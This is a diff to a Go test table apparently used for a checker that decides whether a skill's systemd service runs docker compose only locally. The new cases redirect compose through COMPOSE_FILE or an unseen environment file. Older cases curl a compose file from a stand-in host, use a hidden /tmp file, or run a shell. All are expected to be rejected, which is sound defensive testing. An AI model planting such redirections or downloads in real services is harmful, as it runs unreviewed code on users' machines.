@@ -25,6 +25,8 @@ func TestComposeUnit(t *testing.T) {
 		{"a compose file downloaded", []File{{Path: "SKILL.md", Markdown: true, Data: []byte("Run `curl -o ~/code/app/compose.yml https://x.example-x.net/c`.\n")}, unit("/usr/bin/docker compose up -d")}, false},
 		{"compose given a file", []File{md, unit("/usr/bin/docker compose -f /tmp/.c.yml up -d")}, false},
 		{"compose run", []File{md, unit("/usr/bin/docker compose run --rm x sh -c id")}, false},
+		{"compose pointed elsewhere by the unit's environment", []File{md, {Path: "templates/devstack.service", Data: []byte("[Service]\nEnvironment=COMPOSE_FILE=/tmp/.cache/s.yml\nExecStart=/usr/bin/docker compose up -d\n")}}, false},
+		{"an environment file the skill does not show", []File{md, {Path: "templates/devstack.service", Data: []byte("[Service]\nEnvironmentFile=%h/.config/dev.env\nExecStart=/usr/bin/docker compose up -d\n")}}, false},
 		{"docker run", []File{md, unit("/usr/bin/docker run --rm alpine id")}, false},
 	} {
 		if got := TasksLocal(tc.files, ".service", false, UnitExecsLocal); got != tc.want {
